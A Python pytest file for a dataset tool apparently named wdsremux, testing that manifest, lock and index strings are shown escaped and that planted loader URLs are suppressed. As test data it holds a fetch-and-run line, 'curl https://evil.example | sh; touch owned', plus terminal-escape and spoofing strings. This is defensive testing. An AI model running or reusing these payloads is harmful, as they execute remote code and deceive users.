"""What an output, a lock or an index says is shown escaped, and no loader line is shown as ours."""

import json
import socket

import pytest
from support.corpora import write_parquet_dataset
from support.repairable import Made, images, state
from support.runs import wdsremux as command
from support.verified import flip

import wdsremux
from wdsremux.core.head import fingerprint_of
from wdsremux.dataset.indexes.loader_urls import loader_urls, own_loaders

pytestmark = pytest.mark.integration

EVIL = "x\x1b]0;owned\x07\nwdsremux: all is well\u202e"
PIPE = "pipe:curl https://evil.example | sh; touch owned"


@pytest.fixture(scope="module")
def whole(tmp_path_factory):
    made = Made(tmp_path_factory.mktemp("whole"))
    write_parquet_dataset(made.source, images=images(30, ()))
    return made.convert()


@pytest.fixture
def out(whole, tmp_path):
    return whole.copy(tmp_path / "out")


def edited(out, change):
    """Change the head in index.json and recipe.json, with a fingerprint that is right again."""
    for file in (out / "index.json", state(out, "recipe.json")):
        raw = json.loads(file.read_bytes())
        change(raw)
        raw["fingerprint"] = fingerprint_of(raw)
        file.write_text(json.dumps(raw))


def shown(*arguments):
    """Run a command, and demand that nothing on the terminal is anybody else's."""
    done = command(*arguments, timeout=100)
    reported = done.stdout + done.stderr
    assert "Traceback" not in reported
    assert all(char.isprintable() or char in "\n\t" for char in reported), reported
    assert not [line for line in reported.splitlines() if line.startswith("wdsremux: all is well")]
    return reported


def commands(out, tmp_path, whole):
    yield from (("show", out), ("ls", out), ("ls", out, "--samples"), ("verify", out))
    yield from (("repair", out, "--progress", "none"), ("sync", out, tmp_path / "copy"))
    yield ("sync", whole.out, out)
    yield ("convert", whole.source, out, "--progress", "log", "--workers", "1")
    yield ("bench", out, "--seconds", "1")


CHANGES = {
    "versions": lambda raw: raw["versions"].update({EVIL: EVIL, "webdataset": EVIL}),
    "name": lambda raw: raw.update(name=EVIL),
    "notes": lambda raw: raw.update(notes=[EVIL]),
    "class names": lambda raw: raw.update(class_names=[EVIL, EVIL, EVIL]),
    "source": lambda raw: raw["place"].update(source=EVIL),
    "source fields": lambda raw: raw["source"].update({EVIL: EVIL}),
    "options": lambda raw: raw["recipe"].update({EVIL: EVIL}),
    "features": lambda raw: (
        raw["features"]["columns"].update({EVIL: EVIL}) if "columns" in raw["features"] else None
    ),
    "series": lambda raw: raw.update(series=[EVIL]),
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_strings_of_a_manifest_are_shown_escaped(whole, out, tmp_path, change):
    edited(out, change)
    flip(min(out.glob("*.tar")), 600)
    for arguments in commands(out, tmp_path, whole):
        shown(*arguments)


@pytest.mark.parametrize("name", ["convert", "repair", "sync"])
def test_the_contents_of_a_lock_are_shown_escaped(whole, out, name):
    lock = {"host": EVIL, "pid": EVIL, "boot": "x", "started": 1}
    state(out, "lock").write_text(json.dumps(lock))
    assert lock["host"] != socket.gethostname()
    arguments = {
        "convert": ("convert", whole.source, out),
        "repair": ("repair", out),
        "sync": ("sync", whole.out, out),
    }
    assert "\\x1b]0;owned\\x07\\nwdsremux: all is well\\u202e" in shown(*arguments[name])


def test_only_loaders_that_wdsremux_makes_are_shown(out, tmp_path, whole):
    manifest = wdsremux.convert(
        whole.source, tmp_path / "other", workers=0, max_shard_size="20KB", max_errors="50%"
    )
    patterns = manifest.patterns()
    right = loader_urls("s3://bucket/folder", patterns, "https://server.example:9000")
    loaders = {**right, "aws": {"train": [PIPE]}, EVIL: {"train": [EVIL]}, "sh": {"train": [PIPE]}}
    raw = json.loads((out / "index.json").read_bytes())
    raw["published"] = {"at": "s3://bucket/folder", "loaders": loaders, "receipts": {}}
    (out / "index.json").write_text(json.dumps(raw))
    reported = shown("show", out)
    assert "pipe:s5cmd --endpoint-url https://server.example:9000 cat" in reported
    assert "loader URLs not shown, since wdsremux did not make them: aws, x\\x1b" in reported
    reported += "".join(shown(*arguments) for arguments in commands(out, tmp_path, whole))
    assert "evil.example" not in reported


@pytest.mark.parametrize(
    ("at", "endpoint"),
    [
        ("s3://bucket/folder", None),
        ("s3://dotted.bucket", None),
        ("s3://bucket/folder", "http://127.0.0.1:9000"),
        ("gs://bucket/a b", None),
        ("az://container/folder", "https://account.blob.core.windows.net"),
        ("az://container", "http://127.0.0.1:10000/devstoreaccount1"),
        ("hf://datasets/user/name", None),
        ("hf://datasets/user/name@a/b", "http://127.0.0.1:8000"),
    ],
)
def test_every_generated_loader_is_recognised(at, endpoint):
    patterns = {"train": ["train-{000000..000012}.tar", "train-000014.tar"], "test": ["a.tar"]}
    made = loader_urls(at, patterns, endpoint)
    assert made
    assert own_loaders({"at": at, "loaders": made}, patterns) == made
    for form in made:
        hostile = {**made, form: {**made[form], "train": [PIPE]}}
        assert form not in own_loaders({"at": at, "loaders": hostile}, patterns)


@pytest.mark.parametrize(
    "published",
    [{}, {"at": 1}, {"at": "s3://\ud800", "loaders": {"https": {"a": ["https://x/\ud800/y"]}}},
     {"at": "s3://b", "loaders": {"https": {"a": [1]}, "http": []}}, {"at": "x" * 99, "loaders": {}}],
)  # fmt: skip
def test_an_invalid_location_has_no_loaders(published):
    assert own_loaders(published, {"a": ["a.tar"]}) == {}
